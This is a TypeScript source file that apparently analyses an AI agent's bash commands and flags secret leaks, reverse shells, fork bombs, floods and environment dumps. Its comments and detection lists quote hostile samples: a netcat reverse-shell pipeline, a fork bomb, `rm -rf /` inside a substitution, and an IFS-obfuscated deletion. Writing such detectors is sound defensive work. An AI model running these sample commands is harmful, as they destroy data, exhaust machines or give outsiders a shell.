import { judgeEnvironment } from './argument-roles.js';
import { parseBash } from './bash-parser.js';
import { judgeCommand } from './command-judge.js';
import { environmentChangeFinding } from './environment-change.js';
import { type Finding, FindingSet } from './finding.js';
import { addressesOutsideHost } from './loopback-host.js';
import { classifyPath } from './path-scope.js';
import { judgeRedirect } from './redirect-judge.js';
import { RISK } from './risk-scale.js';
import { isSecretVariableName } from './secret-source.js';
import type { CommandInput, CommandScope, Redirect, SimpleCommand } from './shell-command.js';
import type { ShellNode } from './shell-syntax.js';
import { evaluateWord, type ShellVariables } from './shell-word.js';
import { simpleCommandSyntax } from './simple-command-syntax.js';
import { taskNamesPath } from './task-scope.js';
import { environmentWeakensTransportTrust, transportTrustFinding } from './transport-trust.js';

/** Nested shells deeper than this are not followed: the call is judged not understood. */
export const MAX_SHELL_DEPTH = 8;
/** Syntax nodes visited per call, across all nesting levels. */
export const MAX_SHELL_NODES = 50_000;
/** Texts written into files that one call records for judgement; further writes are not read. */
export const MAX_WRITTEN_TEXTS = 16;

export interface ShellAnalysis {
  /** The top-level simple commands, in order, as written. */
  segments: string[];
  findings: Finding[];
  /** The command parsed cleanly (no syntax errors, no limits reached). */
  parsed: boolean;
  /** Literal text the command writes into files, for the caller to judge as inserted content. */
  writtenTexts: WrittenText[];
}

export interface WrittenText {
  /** The file, normalised by path-scope. */
  path: string;
  text: string;
  /** What the write replaces in the file (a substitution's pattern); empty for a plain write. */
  removed: string;
}

export interface ShellContext {
  cwd?: string | undefined;
  task: string;
}

interface WalkState {
  context: ShellContext;
  findings: FindingSet;
  segments: string[];
  nodes: number;
  secretSources: string[];
  networkSinks: string[];
  writtenPaths: Set<string>;
  writtenTexts: WrittenText[];
  parsed: boolean;
  stopped: boolean;
}

export function analyseShellCommand(command: string, context: ShellContext): ShellAnalysis {
  const state: WalkState = {
    context,
    findings: new FindingSet(),
    segments: [],
    nodes: 0,
    secretSources: [],
    networkSinks: [],
    writtenPaths: new Set(),
    writtenTexts: [],
    parsed: true,
    stopped: false,
  };
  analyseSource(command, state, 0, new Map());
  judgeSecretFlow(state);
  return {
    segments: state.segments,
    findings: state.findings.list(),
    parsed: state.parsed,
    writtenTexts: state.writtenTexts,
  };
}

/**
 * Principle 3: a secret that reaches any network sink in the same call is a leak, whatever the
 * path between them (pipes, substitutions, variables, files, encodings all stay in one call).
 * A credential sent only to the service that issued it (`$GITHUB_TOKEN` to api.github.com) is
 * its use, not a leak. Principle 4: a secret with no sink still reaches the agent's context
 * when the command prints it; revealing is exposure, asked.
 */
function judgeSecretFlow(state: WalkState): void {
  const hosts = state.networkSinks.map(sinkHost);
  const sources = state.secretSources.filter(
    (source) => !(hosts.length > 0 && hosts.every((host) => issuedBy(source, host))),
  );
  if (sources.length === 0) return;
  if (state.networkSinks.length > 0) {
    state.findings.add({
      code: `flow.secret-to-network:${sources[0]}->${state.networkSinks[0]}`,
      exfil: RISK.certain,
      onTask: 0.05,
    });
    return;
  }
  if (hosts.length === 0)
    state.findings.add({ code: `secret.exposed:${sources[0]}`, exfil: RISK.ask, onTask: 0.4 });
}

/** The host part of a sink label (`curl:api.github.com`, `url:x.example`), when it names one. */
function sinkHost(sink: string): string {
  return sink.slice(sink.indexOf(':') + 1).toLowerCase();
}

/** Services that issue the credentials named for them; a token sent there is not a leak. */
const ISSUERS: readonly [RegExp, RegExp][] = [
  [/^\$\{?(GITHUB|GH)_/, /(^|\.)(github\.com|githubusercontent\.com)$/],
  [/^\$\{?GITLAB_/, /(^|\.)gitlab\.com$/],
  [/^\$\{?NPM_/, /(^|\.)npmjs\.(org|com)$/],
  [/^\$\{?OPENAI_/, /(^|\.)openai\.com$/],
  [/^\$\{?ANTHROPIC_/, /(^|\.)anthropic\.com$/],
  [/^\$\{?SLACK_/, /(^|\.)slack\.com$/],
  [/^\$\{?STRIPE_/, /(^|\.)stripe\.com$/],
  [/^\$\{?(HF|HUGGINGFACE)_/, /(^|\.)huggingface\.co$/],
  [/^\$\{?SENTRY_/, /(^|\.)sentry\.io$/],
  [/^\$\{?CLOUDFLARE_/, /(^|\.)cloudflare\.com$/],
  [/^\$\{?VERCEL_/, /(^|\.)vercel\.com$/],
];

function issuedBy(source: string, host: string): boolean {
  return ISSUERS.some(([name, issuer]) => name.test(source) && issuer.test(host));
}

function analyseSource(source: string, state: WalkState, depth: number, variables: ShellVariables): void {
  if (depth > MAX_SHELL_DEPTH) {
    state.parsed = false;
    state.findings.add({ code: 'parse.nesting-too-deep', uncertain: true, implausible: true });
    return;
  }
  if (source.trim() === '') return;
  const simple = simpleCommandSyntax(source);
  if (simple !== null) {
    walk(simple, state, depth, variables);
    return;
  }
  const parse = parseBash(source);
  if (!parse.ok) {
    state.parsed = false;
    state.findings.add({ code: `parse.${parse.reason}`, uncertain: true, implausible: true });
    return;
  }
  try {
    if (parse.hasError) {
      state.parsed = false;
      state.findings.add({ code: 'parse.error', uncertain: true, implausible: true });
    }
    walk(parse.root, state, depth, variables);
  } finally {
    parse.tree.delete();
  }
}

function walk(node: ShellNode, state: WalkState, depth: number, variables: ShellVariables): void {
  if (state.stopped) return;
  state.nodes += 1;
  if (state.nodes > MAX_SHELL_NODES) {
    state.stopped = true;
    state.parsed = false;
    state.findings.add({ code: 'parse.too-complex', uncertain: true, implausible: true });
    return;
  }
  switch (node.type) {
    case 'comment':
    case 'heredoc_start':
    case 'heredoc_end':
      return;
    case 'variable_assignment':
      assign(node, state, depth, variables);
      return;
    case 'pipeline':
      walkPipeline(node, state, depth, variables);
      return;
    case 'redirected_statement':
      walkRedirected(node, state, depth, variables, { kind: 'none' });
      return;
    case 'command':
      walkCommand(node, state, depth, variables, { kind: 'none' }, []);
      return;
    case 'function_definition':
      judgeFunction(node, state);
      break;
    case 'for_statement':
    case 'while_statement':
    case 'c_style_for_statement': {
      const flood = processFlood(node);
      if (flood !== undefined) state.findings.add(flood);
      const endless = endlessLoop(node);
      if (endless !== undefined) state.findings.add(endless);
      const requests = requestFlood(node);
      if (requests !== undefined) state.findings.add(requests);
      break;
    }
    case 'program':
    case 'list': {
      const fanOut = backgroundFanOut(node);
      if (fanOut !== undefined) state.findings.add(fanOut);
      break;
    }
    case 'declaration_command': {
      // `export -p`, `declare -x`, `typeset -p` with no names print every variable the shell
      // exports: the whole environment, secrets included, as `env` does.
      const children = node.namedChildren.filter((child) => child !== null);
      if (
        children.length > 0 &&
        children.every((child) => child.type === 'word' && /^-[px]+$/.test(child.text))
      ) {
        const keyword = node.text.trim().split(/\s+/)[0] ?? 'export';
        state.secretSources.push(keyword);
        state.findings.add({ code: `secret.environment-dump:${keyword}`, exfil: RISK.low });
        return;
      }
      const exported = exports(node);
      for (const child of children) {
        if (child.type === 'variable_assignment') assign(child, state, depth, variables, exported);
        else walk(child, state, depth, variables);
      }
      return;
    }
    case 'unset_command':
      // `unset HISTFILE`: the session's history is no longer kept.
      for (const child of node.namedChildren) {
        const change = child === null ? undefined : environmentChangeFinding(child.text, undefined);
        if (change !== undefined) state.findings.add(change);
      }
      return;
    case 'command_substitution': {
      // Bash reads `$(< file)` as `$(cat file)`: the file's contents become the word.
      const children = node.namedChildren.filter((child) => child !== null);
      const redirect =
        children.length === 1 && children[0]!.type === 'file_redirect' ? children[0]! : undefined;
      const destination = redirect?.childForFieldName('destination');
      if (redirect !== undefined && destination != null && /^\s*</.test(redirect.text)) {
        analyseSource(`cat ${destination.text}`, state, depth + 1, new Map(variables));
        return;
      }
      break;
    }
    case 'ERROR':
      state.parsed = false;
      break;
  }
  for (const child of node.namedChildren) if (child !== null) walk(child, state, depth, variables);
}

/**
 * `x=$(mktemp)`, `x="$(mktemp -d)"`: mktemp makes a fresh file or directory in the temporary
 * directory and prints its path, so the variable names a temporary path (`rm -f "$x"` is cleanup).
 * Not when it is told another place (`-p DIR`, `--tmpdir=DIR`, a template with a slash).
 */
const MKTEMP =
  /^"?(?:\$\(|`)\s*mktemp(?:\s+-(?:d|u|q|t|-directory|-quiet|-dry-run))*(?:\s+[^\s/$`()"-][^\s/$`()"]*)?\s*(?:\)|`)"?$/;
const MKTEMP_PATH = '/tmp/tmp.mktemp';

function assign(
  node: ShellNode,
  state: WalkState,
  depth: number,
  variables: ShellVariables,
  exported = false,
): void {
  const name = node.childForFieldName('name');
  const value = node.childForFieldName('value');
  if (name === null) return;
  if (value === null) {
    variables.set(name.text, '');
    const change = environmentChangeFinding(name.text, '');
    if (change !== undefined) state.findings.add(change);
    return;
  }
  // The analysis splits words as the default IFS does; a script that sets its own splits them in
  // ways the analysis does not follow (`IFS=,; c='rm,-rf,/x'; $c`): not understood.
  if (name.text === 'IFS')
    state.findings.add({ code: 'shell.ifs-changed', uncertain: true, destructive: RISK.askLow });
  const evaluated = evaluateWord(value, variables);
  if (exported) {
    // `export LD_PRELOAD=…; npm test`: every later command of the call inherits the setting, as
    // `LD_PRELOAD=… npm test` gives it to one; both are judged the same way.
    judgeEnvironment(
      {
        add: (finding) => state.findings.add(finding),
        runShell: (source) => analyseSource(source, state, depth + 1, new Map(variables)),
        secretSource: (what) => state.secretSources.push(what),
      },
      name.text,
      evaluated.text,
    );
  } else {
    // `NODE_TLS_REJECT_UNAUTHORIZED=0` on its own line: later commands of the call download
    // unchecked once it is exported, and it usually is.
    if (environmentWeakensTransportTrust(name.text, evaluated.text))
      state.findings.add(transportTrustFinding(`$${name.text}`));
    const change = environmentChangeFinding(name.text, evaluated.text);
    if (change !== undefined) state.findings.add(change);
  }
  if (MKTEMP.test(value.text)) variables.set(name.text, MKTEMP_PATH);
  else if (evaluated.dynamic) variables.delete(name.text);
  else variables.set(name.text, evaluated.text);
  // The value itself may run commands: `x=$(rm -rf /)`.
  walk(value, state, depth, variables);
}

/** Passes of a loop that spawn a background process each before the machine's work is taken. */
const FLOOD_PASSES = 16;

/**
 * A loop whose body starts a process in the background (`… & done`) runs as many processes at
 * once as it has passes: without end for `while true` or `until false`, or a counted range
 * (`seq 1 64`, `{1..64}`, `((i=0; i<64; i++))`). A machine's processes and cores run out (resource
 * exhaustion). A loop over files, whose count is not known, is not judged so.
 */
function processFlood(loop: ShellNode): Finding | undefined {
  const body = loop.namedChildren.find((child) => child?.type === 'do_group');
  if (body == null || !/[^&>|]\s*&\s*(?:done\b|;|\n)/.test(body.text)) return undefined;
  const head = loop.text.slice(0, body.startIndex - loop.startIndex);
  const numbers = (head.match(/\d+/g) ?? []).map(Number);
  const unbounded =
    loop.type === 'while_statement' && /^\s*(while\s+(true|:|\[\s*1\s*\])|until\s+false)\s*;?\s*$/.test(head);
  const counted =
    numbers.length > 0 && Math.max(...numbers) >= FLOOD_PASSES && !/\$\(\s*(ls|find|cat)\b|\*/.test(head);
  if (!unbounded && !counted) return undefined;
  return {
    code: `proc.background-flood:${unbounded ? 'unbounded' : Math.max(...numbers)}`,
    destructive: RISK.ask,
    onTask: 0.2,
  };
}

/**
 * Exhaustion (issue 27): a loop with no end (`while true`, `while :`, `until false`, `for ((;;))`)
 * and nothing in its body that leaves it (`break`, `exit`, `return`) runs until someone stops it.
 * Against another party's host it is a flood of their service; anywhere it holds a core, a
 * connection or disk. What it does each pass is judged besides; the endlessness is asked.
 */
function endlessLoop(loop: ShellNode): Finding | undefined {
  const body = loop.namedChildren.find(
    (child) => child?.type === 'do_group' || child?.type === 'compound_statement',
  );
  if (body == null) return undefined;
  const head = loop.text.slice(0, body.startIndex - loop.startIndex);
  const endless =
    (loop.type === 'while_statement' &&
      /^\s*(while\s+(true|:|\[\s*1\s*\]|\(\(\s*1\s*\)\))|until\s+false)\s*;?\s*$/.test(head)) ||
    (loop.type === 'c_style_for_statement' && /^\s*for\s*\(\(\s*[^;]*;\s*;/.test(head));
  if (!endless || /\b(break|exit|return)\b/.test(body.text)) return undefined;
  const outside = addressesOutsideHost(body.text);
  return {
    code: `proc.endless-loop${outside ? ':outside-host' : ''}`,
    destructive: outside ? RISK.askHigh : RISK.askLow,
    uncertain: true,
    onTask: 0.3,
  };
}

/** Passes of a loop over another party's host that are a flood rather than a check or a retry. */
export const REQUEST_FLOOD_PASSES = 1000;

/**
 * Exhaustion (issue 27) of someone else's service: a counted loop (`for i in $(seq 1 100000)`,
 * `{1..5000}`, `((i=0; i<5000; i++))`) whose body sends a request to a host other than this machine
 * sends that many requests, which is a load test or a flood of a service the project does not own.
 * A few passes (a retry, a smoke check of three ids) stay below the count.
 */
function requestFlood(loop: ShellNode): Finding | undefined {
  const body = loop.namedChildren.find(
    (child) => child?.type === 'do_group' || child?.type === 'compound_statement',
  );
  if (body == null || !addressesOutsideHost(body.text)) return undefined;
  const head = loop.text.slice(0, body.startIndex - loop.startIndex);
  const passes = Math.max(0, ...(head.match(/\d+/g) ?? []).map(Number));
  if (passes < REQUEST_FLOOD_PASSES) return undefined;
  return { code: `proc.request-flood:${passes}`, destructive: RISK.askHigh, onTask: 0.2 };
}

/** Background jobs started side by side in one list before the machine's cores are taken. */
const FAN_OUT_JOBS = 4;

/**
 * Exhaustion (issue 27): many copies of a command started in the background in one list
 * (`yes > /dev/null & yes > /dev/null & …`) each take a core or a process slot; a `wait` for a few
 * project tasks (`npm run a & npm run b & wait`) stays below the count.
 */
function backgroundFanOut(list: ShellNode): Finding | undefined {
  const jobs = list.text.match(/[^&|>]&(?!&|>)/g)?.length ?? 0;
  if (jobs < FAN_OUT_JOBS) return undefined;
  return { code: `proc.background-fan-out:${jobs}`, destructive: RISK.ask, uncertain: true, onTask: 0.2 };
}

/** `export …`, `declare -x …`, `typeset -x …`: the assignments in it reach child processes. */
function exports(declaration: ShellNode): boolean {
  const words = declaration.text.trim().split(/\s+/);
  return words[0] === 'export' || words.slice(1).some((word) => /^-[a-z]*x[a-z]*$/.test(word));
}

function walkPipeline(
  node: ShellNode,
  state: WalkState,
  depth: number,
  variables: ShellVariables,
  firstInput: CommandInput = { kind: 'none' },
): void {
  let previous: SimpleCommand | undefined;
  const programs: string[] = [];
  const stages: (SimpleCommand | undefined)[] = [];
  const sourcesBefore = state.secretSources.length;
  let first = true;
  for (const child of node.namedChildren) {
    if (child === null) continue;
    const input: CommandInput = first
      ? firstInput
      : previous === undefined
        ? { kind: 'none' }
        : { kind: 'pipe', from: previous };
    first = false;
    if (child.type === 'command') previous = walkCommand(child, state, depth, variables, input, []);
    else if (child.type === 'redirected_statement')
      previous = walkRedirected(child, state, depth, variables, input);
    else {
      walk(child, state, depth, variables);
      previous = undefined;
    }
    stages.push(previous);
  }
  // `env | grep ^VITE_`: the environment listed, then cut down to the variables a front-end build
  // publishes anyway. Only those reach the output, so the listing is not a secret's source.
  if (stages.length === 2 && keepsOnlyPlainVariables(stages[0], stages[1])) {
    const added = state.secretSources.splice(sourcesBefore);
    state.secretSources.push(...added.filter((source) => source !== 'env' && source !== 'printenv'));
  }
  // Walking the subtree again is only worth it when a socket client is named at all.
  if (SOCKET_CLIENT_MENTION.test(node.text))
    for (const name of node.descendantsOfType('command_name'))
      if (name !== null) programs.push(name.text.replace(/^.*\//, ''));
  // A shell reading from or writing to a raw socket in one pipeline is a remote shell
  // (`mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f`).
  const shell = programs.find((program) => SHELL_NAMES.has(program));
  const socket = programs.find((program) => SOCKET_CLIENTS.has(program));
  if (shell !== undefined && socket !== undefined)
    state.findings.add({
      code: `net.reverse-shell:${shell}|${socket}`,
      exfil: RISK.certain,
      destructive: RISK.ask,
      onTask: 0.02,
    });
}

/**
 * Prefixes of variables that front-end build tools copy into the bundle they ship to every browser
 * (Vite, Next.js, Create React App, Nuxt, Expo, Gatsby, Vue CLI, Astro): public by design.
 */
const PUBLIC_VARIABLE_PREFIX =
  /^\^(VITE_|NEXT_PUBLIC_|REACT_APP_|NUXT_PUBLIC_|EXPO_PUBLIC_|GATSBY_|VUE_APP_|PUBLIC_)[A-Z0-9_]*$/;

function keepsOnlyPlainVariables(
  lister: SimpleCommand | undefined,
  filter: SimpleCommand | undefined,
): boolean {
  if (lister === undefined || filter === undefined) return false;
  if (!/^(env|printenv)$/.test(lister.program) || lister.args.length > 0) return false;
  if (!/^(grep|egrep|rg)$/.test(filter.program)) return false;
  const options = filter.args.filter((arg) => arg.startsWith('-'));
  const patterns = filter.args.filter((arg) => !arg.startsWith('-'));
  if (options.some((option) => /v|^--invert/.test(option) && !/^--(ignore-case|color)/.test(option)))
    return false;
  return patterns.length === 1 && PUBLIC_VARIABLE_PREFIX.test(patterns[0]!);
}

const SHELL_NAMES = new Set([
  'sh',
  'bash',
  'zsh',
  'dash',
  'ksh',
  'ash',
  'fish',
  'python',
  'python3',
  'perl',
  'ruby',
  'php',
  'node',
]);
const SOCKET_CLIENT_MENTION = /\b(nc|ncat|netcat|socat|telnet|openssl|cryptcat)\b/;
const SOCKET_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'openssl', 'cryptcat']);

function walkRedirected(
  node: ShellNode,
  state: WalkState,
  depth: number,
  variables: ShellVariables,
  input: CommandInput,
): SimpleCommand | undefined {
  const redirects: Redirect[] = [];
  let document: string | undefined;
  const continuations: ShellNode[] = [];
  for (const redirect of node.childrenForFieldName('redirect')) {
    if (redirect === null) continue;
    if (redirect.type === 'heredoc_redirect') {
      const body = redirect.namedChildren.find((child) => child?.type === 'heredoc_body');
      if (body != null) {
        const stripTabs = redirect.text.startsWith('<<-');
        document = stripTabs ? body.text.replace(/^\t+/gm, '') : body.text;
        // Unquoted heredoc bodies expand `$(…)` and backticks when the shell reads them; the
        // grammar parses `$(…)` in bodies but leaves backticks as text, so those are read here.
        walk(body, state, depth, variables);
        const start = redirect.namedChildren.find((child) => child?.type === 'heredoc_start')?.text ?? '';
        if (!/['"\\]/.test(start))
          for (const match of body.text.matchAll(/`([^`]+)`/g))
            analyseSource(match[1]!, state, depth + 1, new Map(variables));
      }
      // The rest of the heredoc's first line (`cat <<EOF | sh`) hangs under the redirect.
      for (const child of redirect.namedChildren)
        if (child !== null && !['heredoc_body', 'heredoc_start', 'heredoc_end'].includes(child.type))
          continuations.push(child);
    } else if (redirect.type === 'herestring_redirect') {
      const value = redirect.namedChildren.find((child) => child !== null);
      if (value != null) {
        document = evaluateWord(value, variables).text;
        walk(value, state, depth, variables);
      }
    } else {
      const destination = redirect.childForFieldName('destination');
      const operator = redirect.text
        .slice(0, destination === null ? undefined : destination.startIndex - redirect.startIndex)
        .trim();
      if (destination !== null) {
        const value = evaluateWord(destination, variables);
        redirects.push({ operator, target: value.text, dynamic: value.dynamic });
        walk(destination, state, depth, variables);
      }
    }
  }
  const body = node.childForFieldName('body');
  const bodyInput: CommandInput = document !== undefined ? { kind: 'document', body: document } : input;
  if (body?.type === 'command') {
    const command = walkCommand(body, state, depth, variables, bodyInput, redirects);
    for (const continuation of continuations) {
      if (continuation.type === 'pipeline' && command !== undefined)
        walkPipeline(continuation, state, depth, variables, { kind: 'pipe', from: command });
      else walk(continuation, state, depth, variables);
    }
    return command;
  }
  for (const continuation of continuations) walk(continuation, state, depth, variables);
  // `cat <<EOF | sh`: the grammar hangs the heredoc on the pipeline; it feeds the first command.
  if (body?.type === 'pipeline' && redirects.length === 0) {
    walkPipeline(body, state, depth, variables, bodyInput);
    return undefined;
  }
  for (const redirect of redirects)
    judgeRedirect(redirect, createScope(state, depth, variables, placeholder(node.text)));
  if (body !== null) walk(body, state, depth, variables);
  return undefined;
}

function placeholder(text: string): SimpleCommand {
  return { program: '', args: [], dynamicArgs: [], input: { kind: 'none' }, redirects: [], text };
}

function walkCommand(
  node: ShellNode,
  state: WalkState,
  depth: number,
  variables: ShellVariables,
  input: CommandInput,
  redirects: Redirect[],
): SimpleCommand | undefined {
  const words: { text: string; dynamic: boolean }[] = [];
  const environment: { name: string; value: string }[] = [];
  let prefixOnly = true;
  for (const child of node.namedChildren) {
    if (child === null) continue;
    // Every `type` read is a call into the WebAssembly parser: read it once per node.
    const type = child.type;
    if (type === 'variable_assignment') {
      // `VAR=value cmd`: the assignment only affects cmd's environment, but may still run code.
      const value = child.childForFieldName('value');
      const name = child.childForFieldName('name')?.text;
      if (name !== undefined)
        environment.push({ name, value: value === null ? '' : evaluateWord(value, variables).text });
      if (value !== null) walk(value, state, depth, variables);
      continue;
    }
    if (type === 'file_redirect' || type === 'herestring_redirect') {
      const destination =
        child.childForFieldName('destination') ?? child.namedChildren.find((c) => c !== null);
      if (destination != null) {
        const value = evaluateWord(destination, variables);
        const operator = child.text.slice(0, destination.startIndex - child.startIndex).trim();
        if (type === 'herestring_redirect') input = { kind: 'document', body: value.text };
        else redirects.push({ operator, target: value.text, dynamic: value.dynamic });
      }
      continue;
    }
    prefixOnly = false;
    const value = evaluateWord(child, variables, type);
    if (value.splits && !value.dynamic) {
      for (const part of value.text.split(/[ \t\n]+/))
        if (part !== '') words.push({ text: part, dynamic: false });
    } else words.push({ text: value.text, dynamic: value.dynamic });
    // Substitutions inside the words run too.
    if (type !== 'word' && type !== 'raw_string') walk(child, state, depth, variables);
  }
  const text = node.text;
  if (depth === 0) state.segments.push(text.trim());
  if (prefixOnly || words.length === 0) return undefined;
  const [first, ...rest] = words;
  const command: SimpleCommand = {
    program: first!.text,
    args: rest.map((word) => word.text),
    dynamicArgs: rest.map((word) => word.dynamic),
    input,
    redirects,
    text,
    ...(environment.length === 0 ? {} : { environment }),
  };
  const scope = createScope(state, depth, variables, command);
  // `$GITHUB_TOKEN` in an argument puts a secret in whatever the command sends or prints
  // (a test of whether it is set reveals nothing).
  const checksOnly = first!.text === 'test' || first!.text === '[' || first!.text === '[[';
  for (const word of checksOnly ? [] : rest) {
    if (!word.dynamic) continue;
    // Principle 3: `${!name}` expands whatever variable `name` names; it may be any secret.
    if (word.text.includes('${!')) {
      scope.secretSource('indirect-variable');
      scope.add({ code: 'secret.indirect-variable', exfil: RISK.askLow, uncertain: true });
    }
    for (const match of word.text.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)) {
      if (!isSecretVariableName(match[1]!)) continue;
      scope.secretSource(`$${match[1]}`);
      scope.add({ code: `secret.variable:$${match[1]}`, exfil: RISK.low });
    }
  }
  if (first!.dynamic) {
    scope.add({
      code: `shell.dynamic-command:${truncate(first!.text)}`,
      uncertain: true,
      destructive: RISK.askLow,
    });
  } else judgeCommand(scope);
  for (const redirect of redirects) judgeRedirect(redirect, scope);
  return command;
}

function createScope(
  state: WalkState,
  depth: number,
  variables: ShellVariables,
  command: SimpleCommand,
): CommandScope {
  const scope: CommandScope = {
    command,
    task: state.context.task,
    cwd: state.context.cwd,
    add: (finding) => state.findings.add(finding),
    path: (raw) => ({
      ...classifyPath(raw, state.context.cwd),
      namedByTask: taskNamesPath(state.context.task, raw),
    }),
    runShell: (source, origin) => {
      state.findings.add({ code: `shell.nested:${origin}` });
      analyseSource(source, state, depth + 1, new Map(variables));
    },
    runArgv: (argv, origin, placeholder = '{}') => {
      const [program, ...args] = argv;
      if (program === undefined) return;
      if (depth + 1 > MAX_SHELL_DEPTH) {
        state.findings.add({ code: 'parse.nesting-too-deep', uncertain: true });
        return;
      }
      state.findings.add({ code: `shell.wrapped:${origin}` });
      const inner: SimpleCommand = {
        program,
        args,
        // `{}.attacker.example` is as much the input as `{}` alone.
        dynamicArgs: args.map((arg) => arg.includes('$') || arg.includes(placeholder)),
        input: command.input,
        redirects: [],
        text: argv.join(' '),
      };
      judgeCommand(createScope(state, depth + 1, variables, inner));
    },
    secretSource: (what) => {
      state.secretSources.push(what);
    },
    networkSink: (what) => {
      state.networkSinks.push(what);
    },
    wrote: (path) => {
      state.writtenPaths.add(path);
    },
    wroteText: (path, text, removed = '') => {
      if ((text.trim() === '' && removed.trim() === '') || state.writtenTexts.length >= MAX_WRITTEN_TEXTS)
        return;
      state.writtenTexts.push({ path, text, removed });
    },
    // A file under a folder this call made (a clone, an unpacked archive) was written by it too.
    // Workspace paths are normalised relative, so the workspace itself holds every relative path.
    written: (path) =>
      state.writtenPaths.has(path) ||
      [...state.writtenPaths].some((folder) =>
        folder === '$WORKSPACE' ? !/^[/~$]/.test(path) : path.startsWith(`${folder}/`),
      ),
  };
  return scope;
}

function judgeFunction(node: ShellNode, state: WalkState): void {
  // A function that pipes into itself in the background is a fork bomb: `:(){ :|:& };:`.
  const name = node.childForFieldName('name')?.text;
  const body = node.childForFieldName('body')?.text ?? '';
  if (name !== undefined && body.includes(`${name}|${name}`.replace(/\s/g, '')))
    state.findings.add({ code: 'shell.fork-bomb', destructive: RISK.denyHigh });
  else if (
    name !== undefined &&
    new RegExp(`${escapeRegExp(name)}\\s*\\|\\s*${escapeRegExp(name)}`).test(body)
  )
    state.findings.add({ code: 'shell.fork-bomb', destructive: RISK.denyHigh });
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

export function truncate(text: string, length = 60): string {
  return text.length > length ? `${text.slice(0, length)}…` : text;
}
